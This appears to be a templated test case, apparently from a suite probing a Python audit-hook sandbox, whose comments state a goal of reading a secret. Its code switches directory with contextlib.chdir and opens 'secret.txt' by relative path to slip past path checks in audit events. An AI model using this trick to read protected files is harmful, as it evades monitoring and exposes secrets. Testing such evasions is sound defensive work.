# technique: contextlib.chdir, then a relative path
# goal: read-secret
# source: relative paths in audit events
import contextlib
with contextlib.chdir('@SECRET@'.rpartition('/')[0]):
    print(open('secret.txt').read())
